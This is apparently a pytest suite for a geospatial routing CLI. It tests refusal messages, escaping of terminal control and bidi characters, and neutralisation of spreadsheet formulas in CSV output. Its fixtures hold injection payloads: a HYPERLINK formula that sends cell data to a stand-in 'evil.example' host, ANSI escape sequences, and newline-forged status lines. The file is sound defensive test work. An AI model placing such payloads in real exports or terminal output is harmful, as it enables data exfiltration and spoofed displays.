"""Hostile input on the command line (issue 13): every refusal is one line on stderr with a
non-zero exit, nothing printed carries a raw control character, and CSV output opened in a
spreadsheet runs no formula.

Each layer is generated in ``tmp_path``; the tests check the input file and the user's layer
store are left as they were.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import geo
from geo.analysis.network import load_network
from geo.analysis.routing import make_constraints, name_clashes, normalise, resolve
from geo.cli import app
from geo.data.text import terminal_text
from geo.errors import RouteError, UnreadableError
from geo.report import csv_cell, json_text, write_csv

runner = CliRunner()
DATA = Path(__file__).parent / "data"

# Raw characters that must never reach a terminal (a newline ends a line, so it is allowed).
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e"
                 "\u2066-\u2069\ud800-\udfff]")  # fmt: skip

FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP_NAME = "@SUM(1+1)\x1b[31m[bold]red[/bold][link=http://evil.example]x[/link]\u202e"
FORGED_ID = "evil\nforged: valid deposit layer\x07"
C1_NAME = "+cmd\x9b2J\u2066"


def _deposit(ident: str, name: str, x: float, y: float, **more: Any) -> dict[str, Any]:
    props = {"id": ident, "name": name, "commodities": ["copper"], "kind": "mine",
             "status": "producing", "country": "KAZ", "location_precision": "exact",
             "source": "-2+3", "as_of": "2024-01-01", **more}  # fmt: skip
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [x, y]},
            "properties": props}  # fmt: skip


def _write(path: Path, features: list[dict[str, Any]]) -> Path:
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Path]:
    """Two producing copper mines near Almaty whose ids and names are attacks; checked
    unchanged (bytes and mtime) after the test."""
    path = _write(tmp_path / "hostile.geojson", [
        _deposit(FORMULA_ID, MARKUP_NAME, 76.9, 43.3),
        _deposit(FORGED_ID, C1_NAME, 77.0, 43.5),
    ])  # fmt: skip
    before = (path.read_bytes(), path.stat().st_mtime_ns)
    yield path
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


def _store() -> list[tuple[str, int]]:
    """The layer store's files (not the cache beside it, which any command may fill)."""
    home = Path(os.environ["CORRIDOR_HOME"])
    cache = home / "cache"
    return sorted((str(p), p.stat().st_mtime_ns) for p in home.rglob("*")
                  if p.is_file() and cache not in p.parents)  # fmt: skip


def cli(*args: str) -> tuple[int, str, str]:
    """Run the CLI: no traceback, nothing in the store, no raw control character printed."""
    store = _store()
    r = runner.invoke(app, list(args))
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    assert "Traceback" not in r.stdout + r.stderr
    assert not RAW.search(r.stdout), RAW.search(r.stdout)
    assert not RAW.search(r.stderr), RAW.search(r.stderr)
    assert _store() == store
    return r.exit_code, r.stdout, r.stderr


def refused(*args: str) -> str:
    """Run the CLI, expect a refusal: non-zero exit, one line on stderr, nothing on stdout."""
    code, out, err = cli(*args)
    assert code != 0, (args, out)
    assert len(err.strip().splitlines()) == 1, err
    assert out.strip() == "", out
    return err.strip()


# --- 1. place names ----------------------------------------------------------------------------


def test_normalise_keeps_every_script() -> None:
    assert normalise("Алматы") == "алматы" and normalise("北京") == "北京"
    assert normalise("Бейнеу") and normalise("连云港港") and normalise("София")
    assert normalise("й") != normalise("и")  # a Cyrillic mark makes another letter
    assert normalise("Constanța") == normalise("CONSTANTA") == "constanta"
    assert normalise("Ələt") == "alat" and normalise("Ahılkelek") == "ahilkelek"
    assert normalise("") == normalise(" - ' ") == ""


@pytest.mark.parametrize(("alias", "node"), [("Бейнеу", "beyneu"), ("连云港港", "lianyungang"),
                                             ("София", "sofia"), ("Мойынты", "mointy"),
                                             ("Сексеуіл", "saksaulskaya")])  # fmt: skip
def test_aliases_match_in_their_own_script(alias: str, node: str) -> None:
    assert resolve(load_network(), alias) == ("node", node)


# Real homonyms among the bundled places: the user is told both and names the id.
HOMONYMS = {"yulin": ["node:city_yulin_chn", "node:city_yulin_chn_2"]}  # Shaanxi and Guangxi


def test_bundled_place_names_do_not_clash() -> None:
    assert name_clashes(load_network()) == HOMONYMS


def test_route_by_cyrillic_alias() -> None:
    code, out, err = cli("route", "Бейнеу", "Duisburg", "--format", "json")
    assert code == 0, err
    assert json.loads(out)["path"][0] == "Beyneu"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("route", "", "Duisburg"), "origin: the place name is empty; give a node id or name"),
        (("route", "  ", "Duisburg"), "origin: the place name is empty"),
        (("route", "Almaty", ""), "destination: the place name is empty"),
        (("route", "Almaty", "Duisburg", "--via", ""), "--via: the place name is empty"),
        (("route", "!?", "Duisburg"), "origin: '!?' is not a place name"),
        (("bypass", "--to", ""), "--to: the place name is empty"),
        (("exports", "--market", " "), "--market: empty value"),
        (("route", "deposit:", "Duisburg"), "origin: 'deposit:' names no deposit"),
        (("route", "deposit:nosuch", "Duisburg"), "unknown deposit id 'nosuch'"),
        (("route", "Алматы", "Duisburg"), "unknown place 'Алматы'"),
        (("route", "北京", "Duisburg"), "unknown place '北京'"),
    ],
)
def test_empty_and_unknown_places_are_refused(args: tuple[str, ...], message: str) -> None:
    assert message in refused(*args)


def test_unknown_place_suggests_close_names() -> None:
    err = refused("route", "Almatty", "Duisburg")
    assert err.startswith("unknown place 'Almatty'; did you mean ") and "(almaty)" in err
    assert "corridor layers" not in refused("route", "Nowhereville", "Duisburg")


def test_two_places_sharing_a_name_are_ambiguous(tmp_path: Path) -> None:
    node = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [60.0, 50.0]},
            "properties": {"id": "other_tashkent", "name": "Tashkent", "kind": "city",
                           "country": "KAZ", "gauge_change": False, "source": "test"}}  # fmt: skip
    layer = _write(tmp_path / "clash.geojson", [node])
    err = refused("route", "Tashkent", "Almaty", "--layer", str(layer))
    assert err.startswith("'Tashkent' is ambiguous: ")
    assert "(tashkent)" in err and "(other_tashkent)" in err


# --- 2. CSV that a spreadsheet opens -----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "text", "neutralised"),
    [
        (-12.5, "-12.5", False),
        (3, "3", False),
        ("-12.5", "-12.5", False),
        ("=1+1", "'=1+1", True),
        ("+cmd", "'+cmd", True),
        ("-2+3", "'-2+3", True),
        ("@SUM(A1)", "'@SUM(A1)", True),
        ("\t=1", "'\\t=1", True),
        ("\r=1", "'\\r=1", True),
        ("Almaty", "Almaty", False),
        (["=a", "b"], "'=a, b", True),
    ],
)
def test_csv_cell(value: object, text: str, neutralised: bool) -> None:
    assert csv_cell(value) == (text, neutralised)


def test_write_csv_quotes_neutralised_cells_and_keeps_numbers() -> None:
    buf = io.StringIO()
    write_csv(buf, ["name", "km"], [["=HYPERLINK(1)", -12.5], ["plain", 7]])
    assert buf.getvalue() == 'name,km\n"\'=HYPERLINK(1)",-12.5\nplain,7\n'


def test_exports_csv_runs_no_formula(hostile: Path) -> None:
    code, out, err = cli("exports", "--market", "Yokohama", "--commodity", "copper",
                         "--format", "csv", "--layer", str(hostile))  # fmt: skip
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    ours = {r["deposit"]: r for r in rows if r["deposit"].startswith(("'=", "evil"))}
    assert set(ours) == {"'" + FORMULA_ID, terminal_text(FORGED_ID)}
    assert ours["'" + FORMULA_ID]["name"] == "'" + terminal_text(MARKUP_NAME)
    assert float(ours["'" + FORMULA_ID]["km"]) > 0  # numbers are not touched
    assert "\"'=HYPERLINK(" in out  # the neutralised cell is quoted
    for r in rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "@")) and not re.match(r"-[^\d.]", v), v


def test_bypass_csv_runs_no_formula(hostile: Path) -> None:
    code, out, err = cli("bypass", "--format", "csv", "--layer", str(hostile))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    mine = [r for r in rows if r["kind"] == "deposit" and "HYPERLINK" in r["origin"]]
    assert [r["origin"] for r in mine] == ["'" + FORMULA_ID]
    assert float(mine[0]["shortest_km"]) > 0


# --- 3. what reaches the terminal --------------------------------------------------------------


def test_terminal_text_escapes_controls() -> None:
    assert terminal_text("a\x1b[2Jb\nc\td\x07\x9b\u2028\u202e\u2066\ud800") == (
        "a\\x1b[2Jb\\nc\\td\\x07\\x9b\\u2028\\u202e\\u2066\\ud800"
    )
    assert terminal_text("Алматы [bold] <b>") == "Алматы [bold] <b>"


def test_json_text_reads_back_the_same() -> None:
    data = {"name": MARKUP_NAME + C1_NAME + FORGED_ID}
    text = json_text(data)
    assert not RAW.search(text) and json.loads(text) == data


def test_route_table_shows_hostile_names_literally(hostile: Path) -> None:
    code, out, err = cli("route", f"deposit:{FORMULA_ID}", "Tashkent", "--layer", str(hostile))
    assert code == 0, err
    assert "\\x1b[31m[bold]red[/bold][link=http://evil.example]x[/link]\\u202e" in out
    code, out, err = cli("route", f"deposit:{FORGED_ID}", "Tashkent", "--layer", str(hostile),
                         "--format", "markdown")  # fmt: skip
    assert code == 0, err
    assert "+cmd\\x9b2J\\u2066" in out
    assert not any(line.startswith("forged") for line in out.splitlines())


def test_route_json_escapes_what_json_dumps_leaves(hostile: Path) -> None:
    code, out, err = cli("route", f"deposit:{FORGED_ID}", "Tashkent", "--layer", str(hostile),
                         "--format", "json")  # fmt: skip
    assert code == 0, err
    assert json.loads(out)["path"][0] == C1_NAME


def test_validate_output_cannot_forge_lines(tmp_path: Path) -> None:
    bad = _write(tmp_path / "bad.geojson", [_deposit(FORGED_ID, "x\x1b[2J", 76.9, 43.3,
                                                     status="nonsense")])  # fmt: skip
    code, out, err = cli("validate", str(bad))
    assert code == 1 and out == ""
    lines = err.strip().splitlines()
    assert lines and all(line.startswith(str(bad)) for line in lines), lines
    assert "evil\\nforged" in err
    name = tmp_path / "ok\x1b[31m\u202e.geojson"
    _write(name, [_deposit("ok", "ok", 76.9, 43.3)])
    code, out, err = cli("validate", str(name))
    assert code == 0, err
    assert out.strip().endswith("ok\\x1b[31m\\u202e.geojson: valid deposit layer, 1 features")


def test_messages_are_not_read_as_markup() -> None:
    err = refused("route", "[bold]x[/bold][link=http://evil.example]y", "Duisburg")
    assert "[bold]x[/bold][link=http://evil.example]y" in err
    err = refused("route", "Almaty\x1b[2J\nforged", "Duisburg")
    assert "Almaty\\x1b[2J\\nforged" in err


# --- 4. options accepted silently before -------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("route", "Almaty", "Tashkent", "--buffer-km", "nan"), "--buffer-km: 'nan' is not a"),
        (("route", "Almaty", "Tashkent", "--buffer-km", "inf"), "--buffer-km: 'inf' is not a"),
        (("route", "Almaty", "Tashkent", "--buffer-km", "-5"), "--buffer-km: '-5.0' is not a"),
        (("stats", "titr_main", "--buffer-km", "nan"), "--buffer-km: 'nan'"),
        (("bypass", "--avoid", "garbage"), "--avoid: 'garbage' is neither an ISO alpha-3"),
        (("bypass", "--avoid", "RUSS"), "did you mean RUS"),
        (("bypass", "--to", "Nowhereville"), "unknown place 'Nowhereville'"),
        (("exports", "--market", ""), "--market: empty value"),
        (("exports", "--commodity", ""), "--commodity: empty value"),
        (("route", "Almaty", "Tashkent", "--avoid", ""), "--avoid: empty value"),
    ],
)
def test_bad_options_are_refused(args: tuple[str, ...], message: str) -> None:
    assert message in refused(*args)


def test_repeated_market_is_listed_once() -> None:
    code, out, err = cli("exports", "--market", "Yokohama", "--market", "yokohama_port",
                         "--commodity", "uranium", "--format", "json")  # fmt: skip
    assert code == 0, err
    pairs = [(r["deposit"], r["market"]) for r in json.loads(out)["routes"]]
    assert pairs and len(pairs) == len(set(pairs))


def test_repeated_reference_route_is_listed_once() -> None:
    code, out, err = cli("stats", "titr_main", "titr_main", "--format", "json")
    assert code == 0, err
    assert [r["id"] for r in json.loads(out)] == ["titr_main"]


def test_api_avoid_as_a_string_is_one_code() -> None:
    assert make_constraints("RUS") == make_constraints(["RUS"])
    assert make_constraints("RUS, suez").avoid_passages == {"suez"}
    legs = geo.route("Tbilisi", "Kars", avoid="RUS")
    assert legs.attrs["query"]["constraints"].startswith("avoiding RUS ")
    with pytest.raises(TypeError, match="--avoid: expected a string or a sequence"):
        make_constraints(5)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="--avoid: expected strings"):
        make_constraints([b"RUS"])  # type: ignore[list-item]


# --- 5. output paths ---------------------------------------------------------------------------


def _refused_path(tmp_path: Path, *args: str) -> str:
    before = sorted(tmp_path.rglob("*"))
    err = refused(*args)
    assert sorted(tmp_path.rglob("*")) == before  # nothing half-written, no probe left
    return err


def test_map_path_that_is_a_folder_or_empty(tmp_path: Path) -> None:
    err = _refused_path(tmp_path, "route", "Tbilisi", "Kars", "--map", str(tmp_path))
    assert err.startswith(f"--map: '{tmp_path}' is a folder; give a file name")
    assert "is a folder" in _refused_path(tmp_path, "route", "Tbilisi", "Kars", "--map", "")
    err = _refused_path(tmp_path, "map", "--out", str(tmp_path))
    assert err.startswith(f"--out: '{tmp_path}' is a folder")


def test_map_path_with_a_name_too_long(tmp_path: Path) -> None:
    target = tmp_path / ("a" * 300 + ".html")
    err = _refused_path(tmp_path, "route", "Tbilisi", "Kars", "--map", str(target))
    assert err.startswith("--map: the file name is 305 bytes long; give a name of at most")


def test_map_path_whose_folder_cannot_be_made(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    err = _refused_path(tmp_path, "route", "Tbilisi", "Kars", "--map",
                        str(tmp_path / "file" / "sub" / "r.html"))  # fmt: skip
    assert err.startswith("--map: cannot create the folder of ") and "is a file" in err


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs /proc")
def test_map_path_in_proc() -> None:
    err = refused("route", "Tbilisi", "Kars", "--map", "/proc/self/corridor.html")
    assert err.startswith("--map: cannot write '/proc/self/corridor.html': ")
    err = refused("route", "Tbilisi", "Kars", "--map", "/dev/null")
    assert err == "--map: '/dev/null' is not a regular file; give the path of a new .html file"


def test_a_failed_final_write_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import geo.render.page

    def full(*_: object, **__: object) -> Path:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(geo.render.page, "save_html", full)
    target = tmp_path / "r.html"
    err = _refused_path(tmp_path, "route", "Tbilisi", "Kars", "--map", str(target))
    assert err == f"--map: cannot write '{target}': No space left on device; give another path"


def test_spec_path_that_is_a_folder(tmp_path: Path) -> None:
    err = _refused_path(tmp_path, "map", str(tmp_path))
    assert err == (
        f"{tmp_path}: the map spec is a folder; give a .toml file, e.g. maps/corridor.toml"
    )


# --- 6. validate of what is no regular file ----------------------------------------------------


def test_validate_prints_an_unreadable_file_as_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import geo.data.layers

    def unreadable(path: Path, **_: object) -> None:
        msg = f"{path}: not a regular file\x1b[2J; give a GeoJSON, CSV, ... file"
        raise UnreadableError(msg)

    monkeypatch.setattr(geo.data.layers, "load_layer", unreadable)
    code, out, err = cli("validate", str(tmp_path / "fifo"))
    assert code == 2 and out == ""
    assert (
        err.strip()
        == f"{tmp_path / 'fifo'}: not a regular file\\x1b[2J; give a GeoJSON, CSV, ... file"
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_validate_a_fifo_does_not_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "layer.geojson"
    os.mkfifo(fifo)
    r = subprocess.run([sys.executable, "-m", "geo", "validate", str(fifo)], capture_output=True,
                       text=True, timeout=10, check=False)  # fmt: skip
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


# --- layers add: the colour field and files with several layers --------------------------------


def test_color_by_geometry_is_refused() -> None:
    src = DATA / "valid_nodes.geojson"
    err = refused("layers", "add", str(src), "--name", "x", "--color-by", "geometry")
    assert err.startswith(f"{src}: --color-by: no property 'geometry' in the layer; use one of ")


def test_sublayer_picks_one_layer_of_a_geopackage(tmp_path: Path) -> None:
    from geo.data.layers import load_layer
    from geo.data.store import user_layers

    nodes = load_layer(DATA / "valid_nodes.geojson")
    nodes["id"] = "my_" + nodes["id"]  # bundled ids are reserved
    gpkg = tmp_path / "two.gpkg"
    nodes.to_file(gpkg, layer="ports", driver="GPKG")
    nodes.iloc[:1].to_file(gpkg, layer="cities", driver="GPKG")
    err = refused("validate", str(gpkg))
    assert "holds 2 layers (ports, cities)" in err and "--sublayer NAME" in err
    code, out, _ = cli("validate", str(gpkg), "--sublayer", "cities")
    assert code == 0 and out.strip() == f"{gpkg}: valid node layer, 1 features"
    assert "no layer named 'roads'" in refused("validate", str(gpkg), "--sublayer", "roads")
    r = runner.invoke(app, ["layers", "add", str(gpkg), "--sublayer", "ports", "--name", "p"])
    assert r.exit_code == 0, r.stderr
    assert [len(g) for g in user_layers()] == [len(nodes)]


def test_an_exact_id_wins_over_a_user_name(tmp_path: Path) -> None:
    """A user's node named 'Aktau port' must not make the bundled id aktau_port ambiguous."""
    import geo

    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [51.2, 43.65]},
               "properties": {"id": "my_aktau", "name": "Aktau port", "kind": "port",
                              "country": "KAZ", "gauge_change": False,
                              "source": "https://example.org"}}  # fmt: skip
    src = _write(tmp_path / "mine.geojson", [feature])
    assert runner.invoke(app, ["layers", "add", str(src), "--name", "mine"]).exit_code == 0
    net = geo.network()
    assert resolve(net, "aktau_port") == ("node", "aktau_port")
    assert resolve(net, "my_aktau") == ("node", "my_aktau")
    with pytest.raises(RouteError, match="ambiguous"):
        resolve(net, "Aktau Port")  # a name both carry: say so rather than guess
